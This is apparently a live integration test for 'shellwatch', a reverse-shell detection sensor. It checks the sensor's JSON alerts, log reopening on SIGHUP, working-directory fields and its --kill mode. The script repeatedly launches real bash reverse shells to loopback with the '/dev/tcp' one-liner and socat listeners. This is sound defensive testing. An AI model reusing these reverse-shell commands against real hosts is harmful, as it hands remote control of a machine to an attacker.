#!/usr/bin/env bash
# run_live.sh: `shellwatch run` end to end on this machine: a real bash reverse shell on loopback
# gives exactly one JSON alert with the shell's pid, the listener as peer and the signals that
# fired; plain commands give none; --output appends and SIGHUP reopens it; --kill ends the shell.
. "$(dirname "$0")/../lib.sh"
require_live "shellwatch run"

RUN_PID=
# run_start OUT [OPTIONS...]: start `run --json` writing alerts to OUT; returns once ready.
run_start() {
	local out=$1; shift
	: >"$SW_TMP/run.err"
	"$SW_BIN" run --json -o "$out" "$@" >"$SW_TMP/run.out" 2>"$SW_TMP/run.err" &
	RUN_PID=$!
	wait_until 20 grep -q '^shellwatch run: ready' "$SW_TMP/run.err"
}
run_stop() {
	kill -TERM "$RUN_PID" 2>/dev/null
	wait "$RUN_PID"
}
# alerts_for FILE PORT: the alerts whose destination.port is PORT, one JSON per line.
alerts_for() { grep -E "\"destination\":\\{[^}]*\"port\":$2[,}]" "$1" 2>/dev/null; }
has_alert_for() { alerts_for "$@" >/dev/null; }
# field JSON KEY: one field of a JSON line, by its dotted name (tests/shells/ecs_flat.py).
field() { python3 -c 'import json,sys; sys.path.insert(0, sys.argv[3]); from ecs_flat import field; v=field(json.loads(sys.argv[1]), sys.argv[2]); print(",".join(v) if isinstance(v,list) else v)' "$1" "$2" "$SW_ROOT/tests/shells"; }

# reverse_shell PORT [CMD [DIR]]: a listener that sends CMD (default: a marker and exit), then
# the shell; with DIR, the shell and the `bash -c` that starts it are exec'd in DIR.
reverse_shell() {
	local port=$1 cmd=${2:-'echo remote-$((6*7)); exit'} dir=$3
	printf '%s\n' "$cmd" | socat -t 5 TCP-LISTEN:"$port",bind=127.0.0.1,reuseaddr STDIO \
		>"$SW_TMP/listener.$port" 2>&1 &
	LISTENER_PID=$!
	wait_until 10 listening "$port" || return 1
	if [ -n "$dir" ]; then
		(cd "$dir" && exec bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1; :") 2>/dev/null &
	else
		bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null &
	fi
	SHELL_PID=$!
}

# A reverse shell that connected before the sensor started: found in /proc at start-up. Its
# listener keeps the connection open (no command) until the shell is killed at the end.
port0=$(free_port)
socat -t 30 TCP-LISTEN:"$port0",bind=127.0.0.1,reuseaddr EXEC:'sleep 30' >/dev/null 2>&1 &
early_listener=$!
wait_until 10 listening "$port0"
bash -c "bash -i >& /dev/tcp/127.0.0.1/$port0 0>&1" 2>/dev/null &
early=$!
wait_until 10 bash -c "ss -Htn state established '( dport = :$port0 )' | grep -q ."

out=$SW_TMP/alerts.json
if ! run_start "$out"; then
	tap_fail "run attaches" "$(cat "$SW_TMP/run.err")"
	exit 0
fi
tap_ok "run attaches and says ready"

check "a shell running before the sensor is alerted at start-up" wait_until 2 has_alert_for "$out" "$port0"
a=$(alerts_for "$out" "$port0" | head -1)
check "start-up alert: high, stdio-socket on the shell ($(field "$a" process.pid), launcher $early)" \
	bash -c "[[ ',$(field "$a" shellwatch.signals),' == *,stdio-socket,* && '$(field "$a" shellwatch.severity)' == high && '$(field "$a" process.parent.pid)' == $early ]]"
kill "$early" "$early_listener" 2>/dev/null   # the shell then reads EOF and exits

# Benign activity first: pipelines, redirections, a local connection that is not on stdio.
# (Other tests may run shells at the same time: only alerts carrying this run's marker count.)
mark=benign-$$-$RANDOM
bash -c "ls -la /usr/bin | grep -c x > /dev/null 2>&1; echo $mark | tr a-z A-Z >/dev/null"
printf 'import socket, sys\ns = socket.socket()\ns.settimeout(1)\ntry:\n    s.connect(("127.0.0.1", 9))\nexcept OSError:\n    pass\n' >"$SW_TMP/client.py"
python3 "$SW_TMP/client.py" "$mark"

port=$(free_port)
reverse_shell "$port"
check "the shell ran the listener's command" wait_until 20 grep -q remote-42 "$SW_TMP/listener.$port"
check "an alert for the reverse shell within 2 s" wait_until 2 has_alert_for "$out" "$port"
wait_until 10 pid_gone "$SHELL_PID" 2>/dev/null || true
a=$(alerts_for "$out" "$port" | head -1)
n=$(alerts_for "$out" "$port" | wc -l)
check "exactly one alert for one shell" test "$n" -eq 1
pid=$(field "$a" process.pid)
ppid=$(field "$a" process.parent.pid)
check "alert names the shell's process (pid $pid, parent $ppid, bash -c $SHELL_PID)" \
	test "$pid" = "$SHELL_PID" -o "$ppid" = "$SHELL_PID"
check "alert has the listener as peer" test "$(field "$a" destination.ip)" = 127.0.0.1
check "alert's command line is the shell's" test "$(field "$a" process.command_line)" = "bash -i"
sigs=$(field "$a" shellwatch.signals)
check "alert lists the rule and the stdio-socket fact ($sigs)" \
	bash -c "[[ '$sigs' == *rule* && '$sigs' == *stdio-socket* ]]"
check "alert has ECS fields" bash -c "[[ '$(field "$a" event.kind)' == alert && -n '$(field "$a" host.name)' ]]"
others=$(grep -cF "$mark" "$out")
check "no alert for the benign commands" test "$others" -eq 0
check "nothing but the banner on stdout with --output" test ! -s "$SW_TMP/run.out"

# Log rotation: move the file away, SIGHUP, the next alert goes to a new file at the old path.
mv "$out" "$out.1"
kill -HUP "$RUN_PID"
wait_until 5 test -e "$out"
check "SIGHUP reopens --output (new file at the old path)" test -e "$out"
port2=$(free_port)
reverse_shell "$port2"
check "after rotation the next alert lands in the new file" wait_until 5 has_alert_for "$out" "$port2"
wait_until 10 pid_gone "$SHELL_PID" 2>/dev/null || true

# The working directory, read in the kernel at the exec: the shell's and its parent's. One with a
# space in its name (on the root file system), one on another mount (/dev/shm, a tmpfs): the
# kernel's walk up the path crosses to the mount point.
shm=$(mktemp -d /dev/shm/sw-cwd.XXXXXX)
for dir in "$(mktemp -d "$SW_TMP/cwd dir.XXXXXX")" "$shm/sub dir"; do
	mkdir -p "$dir"
	dir=$(realpath "$dir")
	portc=$(free_port)
	reverse_shell "$portc" 'exit' "$dir"
	check "an alert for the shell started in $dir" wait_until 5 has_alert_for "$out" "$portc"
	a=$(alerts_for "$out" "$portc" | head -1)
	check "process.working_directory is the shell's directory ($(field "$a" process.working_directory))" \
		test "$(field "$a" process.working_directory)" = "$dir"
	check "process.parent.working_directory is its parent's ($(field "$a" process.parent.working_directory))" \
		test "$(field "$a" process.parent.working_directory)" = "$dir"
	# the parent's arguments as bash got them: its -c string is one argument, spaces and all
	pargs=$(python3 -c 'import json,sys; sys.path.insert(0, sys.argv[2]); from ecs_flat import field; print(json.dumps(field(json.loads(sys.argv[1]), "process.parent.args")))' "$a" "$SW_ROOT/tests/shells")
	want=$(python3 -c 'import json,sys; print(json.dumps(["bash", "-c", sys.argv[1]]))' \
		"bash -i >& /dev/tcp/127.0.0.1/$portc 0>&1; :")
	check "process.parent.args are bash's three arguments ($pargs)" test "$pargs" = "$want"
	wait_until 10 pid_gone "$SHELL_PID" 2>/dev/null || true
done
rm -rf "$shm"
run_stop
check "run exits 0 on SIGTERM" test $? -eq 0
check "run prints its counts on stderr" grep -qE '^shellwatch run: [0-9]+ events, .* dropped;' "$SW_TMP/run.err"

# --kill: the shell, exec'd with the socket on stdio, is killed by the kernel at its exec, before
# its first instruction: the command its listener sent at once never runs.
out3=$SW_TMP/kill.json
if run_start "$out3" --kill; then
	port3=$(free_port)
	reverse_shell "$port3" 'echo survived-$((6*7)); exit'
	check "--kill: alert within 2 s" wait_until 2 has_alert_for "$out3" "$port3"
	a=$(alerts_for "$out3" "$port3" | head -1)
	k=$(field "$a" shellwatch.killed_ms)
	check "--kill: the alert says the shell was killed ($k ms after its exec)" test -n "$k" -a "$k" != None
	check "--kill: killed in the kernel at the exec" test "$(field "$a" shellwatch.killed)" = kernel
	check "--kill: the shell is gone" wait_until 5 pid_gone "$(field "$a" process.pid)"
	wait_until 10 pid_gone "$LISTENER_PID"
	check "--kill: the shell never ran the listener's command" bash -c "! grep -q survived-42 '$SW_TMP/listener.$port3'"
	# an inetd-style service: a shell running its script with the connection on stdio reads
	# data, not commands: not a remote shell, so --kill leaves it alone
	port5=$(free_port)
	printf 'read l; echo "got $l"\n' >"$SW_TMP/svc.sh"
	socat TCP-LISTEN:"$port5",bind=127.0.0.1,reuseaddr,fork EXEC:"/bin/sh $SW_TMP/svc.sh" \
		2>/dev/null &
	svc=$!
	wait_until 10 listening "$port5"
	reply=$(printf 'hello\n' | timeout 5 socat -t 2 STDIO TCP:127.0.0.1:"$port5" 2>/dev/null)
	check "--kill: a service script with the connection on stdio is not killed (it answered '$reply')" \
		test "$reply" = "got hello"
	check "--kill: and not alerted" bash -c "! grep -qE '\"port\":$port5[,}]' '$out3'"
	kill "$svc" 2>/dev/null
	run_stop
else
	tap_fail "run --kill attaches" "$(cat "$SW_TMP/run.err")"
fi

# --engine pww: the rules search PWW windows (the hit comes after the exec and is merged); the
# shell is still reported at its exec, once.
out4=$SW_TMP/pww.json
if run_start "$out4" --engine pww; then
	port4=$(free_port)
	reverse_shell "$port4"
	check "--engine pww: alert within 2 s" wait_until 2 has_alert_for "$out4" "$port4"
	wait_until 10 pid_gone "$SHELL_PID"
	run_stop
	check "--engine pww: one alert for the shell" test "$(alerts_for "$out4" "$port4" | wc -l)" -eq 1
else
	tap_fail "run --engine pww attaches" "$(cat "$SW_TMP/run.err")"
fi

# --realtime: the sensor runs as SCHED_FIFO.
if run_start "$SW_TMP/rt.json" --realtime; then
	check "--realtime: run's policy is SCHED_FIFO" bash -c "chrt -p $RUN_PID | grep -q SCHED_FIFO"
	run_stop
else
	tap_fail "run --realtime attaches" "$(cat "$SW_TMP/run.err")"
fi

# Every alert of this file's runs, against the schema of what shellwatch writes.
out=$(/usr/bin/python3 "$SW_ROOT/tests/shells/schema_check.py" "$SW_TMP"/*.json* 2>&1)
check "every alert of these runs is valid against docs/alert.schema.json (${out##*$'\n'})" \
	/usr/bin/python3 "$SW_ROOT/tests/shells/schema_check.py" "$SW_TMP"/*.json*
